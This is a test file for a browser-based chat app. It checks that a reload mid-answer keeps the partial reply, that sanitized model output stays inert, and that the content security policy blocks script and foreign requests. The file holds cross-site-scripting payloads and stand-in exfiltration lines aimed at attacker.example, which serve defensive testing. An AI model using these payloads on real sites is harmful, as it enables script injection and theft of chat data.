/**
 * Hardening end to end, in real headless Chromium against the BUILT app (its real content security policy,
 * real IndexedDB, the simulated engine `?fake-engine`):
 *  - the page reloaded mid-answer keeps the partial answer, marked interrupted;
 *  - model output carrying HTML, script, event handlers, javascript: links and remote images executes and
 *    fetches nothing, streamed and stored;
 *  - the CSP itself blocks an inline script, an inline handler, eval and a request to a foreign host, even
 *    if something got past the sanitizer.
 */
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromiumArgs, chromiumPath } from '../chromium';
import { ask, buildAndPreview, type BuiltApp } from './helpers';

let app: BuiltApp;
let browser: Browser;

beforeAll(async () => {
  app = await buildAndPreview('glimpse-hardening-e2e-');
  browser = await chromium.launch({ executablePath: chromiumPath(), args: chromiumArgs({ webgpu: false }) });
});
afterAll(async () => {
  await browser?.close();
  await app?.close();
});

/** Everything that tells us script ran or data left: globals the payloads set, CSP violations, foreign requests. */
interface Watch {
  context: BrowserContext;
  page: Page;
  foreign: string[];
  errors: string[];
}

async function open(query: string): Promise<Watch> {
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  const foreign: string[] = [];
  const origin = new URL(app.baseUrl).origin;
  context.on('request', (r) => {
    const u = r.url();
    if (!u.startsWith(origin) && !u.startsWith('blob:') && !u.startsWith('data:')) foreign.push(u);
  });
  // Abort anything foreign so a leak is recorded, never sent.
  await context.route((url) => url.origin !== origin, (route) => route.abort());
  const page = await context.newPage();
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));
  await page.addInitScript(() => {
    const w = window as unknown as { __violations: string[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  await page.goto(`${app.baseUrl}?${query}`);
  await page.locator('chat-composer textarea').waitFor();
  return { context, page, foreign, errors };
}

const pwned = (page: Page) => page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned ?? null);
const violations = (page: Page) => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
const assistant = (page: Page) => page.locator('message-item[role-name="assistant"]');

describe('the page reloaded mid-answer', () => {
  it('keeps the question and the partial answer, marked interrupted; the chat goes on', async () => {
    const { context, page, errors } = await open('fake-engine&fake-download-ms=50&fake-token-ms=200');
    await ask(page, 'Tell me about this slowly');
    // Wait until part of the answer is on screen and has had time to be saved (every 500 ms).
    await expect.poll(() => assistant(page).first().locator('.md').textContent(), { timeout: 60_000 }).toMatch(/\S+ \S+ \S+ \S+/);
    await page.waitForTimeout(1200);
    const seen = (await assistant(page).first().locator('.md').textContent()) ?? '';
    await page.reload();

    await assistant(page).first().waitFor();
    await expect.poll(() => assistant(page).first().locator('.status.interrupted').textContent()).toContain('Interrupted');
    const kept = ((await assistant(page).first().locator('.md').textContent()) ?? '').trim();
    expect(kept.length).toBeGreaterThan(10);
    // What was kept is the beginning of what was on screen (saved at most 500 ms of tokens earlier).
    expect(seen.replace(/\s+/g, ' ')).toContain(kept.replace(/\s+/g, ' ').slice(0, 30));
    expect(await page.locator('message-item[role-name="user"] .user-text').textContent()).toContain('Tell me about this slowly');

    // Still interrupted after another reload (the mark was saved), and a follow-up is answered.
    await page.reload();
    await expect.poll(() => assistant(page).first().locator('.status.interrupted').count()).toBe(1);
    await ask(page, 'Go on');
    await expect.poll(() => assistant(page).nth(1).locator('.md').textContent(), { timeout: 60_000 }).toContain('Go on');
    expect(errors).toEqual([]);
    await context.close();
  });
});

const PAYLOAD = [
  'Here you go: <script>window.__pwned = "script"</script>',
  '<img src="x" onerror="window.__pwned = \'onerror\'">',
  '<svg onload="window.__pwned = \'svg\'"><circle r="5"/><image href="https://attacker.example/svg.png"/></svg>',
  '<iframe src="javascript:window.parent.__pwned = \'iframe\'"></iframe>',
  '[click me](javascript:window.__pwned=\'link\') and [data](data:text/html,<script>alert(1)</script>)',
  '<a href="javascript:window.__pwned=\'anchor\'" id="bad">anchor</a>',
  '![tracking pixel](https://attacker.example/leak.png?chat=secret)',
  '<form action="https://attacker.example/steal"><button id="submit-it">Submit</button></form>',
  '<style>body { background: url(https://attacker.example/css.png) }</style>',
].join('\n\n');

describe('model output never executes', () => {
  it('streamed: HTML the model echoes is rendered inert', async () => {
    const { context, page, foreign, errors } = await open('fake-engine&fake-download-ms=50&fake-token-ms=5');
    // The simulated model quotes the question in its answer (as markdown): a way to make it emit anything.
    await ask(page, '<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script>');
    await assistant(page).first().locator('button.regenerate').waitFor({ timeout: 60_000 });
    const md = assistant(page).first().locator('.md');
    expect(await md.textContent()).toContain('You asked');
    expect(await md.locator('script, img, [onerror]').count()).toBe(0);
    expect(await pwned(page)).toBeNull();
    expect(foreign).toEqual([]);
    expect(errors).toEqual([]);
    await context.close();
  });

  it('stored: script, handlers, javascript: and data: links, remote images, forms and styles do nothing', async () => {
    const { context, page, foreign, errors } = await open('fake-engine&fake-download-ms=50&fake-token-ms=2');
    await ask(page, 'hi');
    await assistant(page).first().locator('button.regenerate').waitFor({ timeout: 60_000 });
    // Put the payload where the model's answer is stored, as if the model had written it, and reload.
    await page.evaluate(async (payload) => {
      const db = await new Promise<IDBDatabase>((res, rej) => {
        const r = indexedDB.open('glimpse');
        r.onsuccess = () => res(r.result);
        r.onerror = () => rej(r.error);
      });
      const tx = db.transaction('messages', 'readwrite');
      const store = tx.objectStore('messages');
      await new Promise<void>((res, rej) => {
        const r = store.openCursor();
        r.onerror = () => rej(r.error);
        r.onsuccess = () => {
          const c = r.result;
          if (!c) return res();
          const v = c.value as { role: string; content: { type: string; text?: string }[] };
          if (v.role === 'assistant') c.update({ ...v, content: [{ type: 'text', text: payload }] });
          c.continue();
        };
      });
      await new Promise((res) => (tx.oncomplete = res));
      db.close();
    }, PAYLOAD);
    await page.reload();
    const md = assistant(page).first().locator('.md');
    await expect.poll(() => md.textContent()).toContain('Here you go');
    await expect.poll(() => md.evaluate((el) => el.classList.contains('plain'))).toBe(false); // markdown, not plain text

    expect(await md.locator('script, iframe, svg, image, form, button:not(.copy-code), style, img').count()).toBe(0);
    const attrs = await md.evaluate((el) => [...el.querySelectorAll('*')].flatMap((n) => [...n.attributes].map((a) => `${a.name}=${a.value}`)));
    expect(attrs.filter((a) => /^on/i.test(a) || /javascript:|data:text/i.test(a))).toEqual([]);
    expect(await md.textContent()).toContain('[image: tracking pixel]');

    // Clicking every link runs nothing and opens nothing foreign.
    for (const link of await md.locator('a').all()) await link.click({ modifiers: [], force: true }).catch(() => undefined);
    await page.waitForTimeout(300);
    // Nothing was even attempted: the only reports are Chromium flagging the handlers while the sanitizer
    // parses the answer in its inert document (they never run).
    expect((await violations(page)).filter((x) => !x.startsWith('script-src-attr'))).toEqual([]);
    expect(await pwned(page)).toBeNull();
    expect(foreign).toEqual([]);
    expect(errors).toEqual([]);
    await context.close();
  });
});

describe('the content security policy of the built app', () => {
  it('blocks inline scripts, inline handlers, eval and requests to other hosts, and allows only what the app needs', async () => {
    const { context, page, foreign } = await open('fake-engine&fake-download-ms=50');
    const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    const directives = new Map((csp ?? '').split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k!, v]));
    expect(directives.get('script-src')).toEqual(["'self'", "'wasm-unsafe-eval'", 'blob:']);
    expect(directives.get('object-src')).toEqual(["'none'"]);
    expect(directives.get('img-src')).toEqual(["'self'", 'blob:', 'data:']);
    expect(directives.get('form-action')).toEqual(["'none'"]);
    expect(directives.get('base-uri')).toEqual(["'self'"]);
    expect(directives.get('connect-src')).not.toContain('*');

    const result = await page.evaluate(async () => {
      const w = window as unknown as { __pwned?: unknown };
      const s = document.createElement('script');
      s.textContent = 'window.__pwned = "inline script"';
      document.body.append(s);
      const img = document.createElement('img');
      img.setAttribute('onerror', 'window.__pwned = "inline handler"');
      img.src = 'data:image/png;base64,not-an-image';
      document.body.append(img);
      // A string timer is compiled by the page itself (code run through DevTools' evaluate may eval freely).
      setTimeout('window.__pwned = "eval"', 0);
      let fetchBlocked = false;
      try {
        await fetch('https://attacker.example/collect', { method: 'POST', body: 'chat' });
      } catch {
        fetchBlocked = true;
      }
      await new Promise((r) => setTimeout(r, 200));
      return { pwned: w.__pwned ?? null, fetchBlocked };
    });
    expect(result).toEqual({ pwned: null, fetchBlocked: true });
    const v = await violations(page);
    expect(v.some((x) => x.startsWith('script-src-elem inline'))).toBe(true);
    expect(v.some((x) => x.startsWith('script-src-attr inline'))).toBe(true);
    expect(v.some((x) => x.startsWith('script-src eval'))).toBe(true);
    expect(v.some((x) => x.startsWith('connect-src https://attacker.example'))).toBe(true);
    // The CSP stopped the fetch before any request was made.
    expect(foreign).toEqual([]);
    await context.close();
  });
});
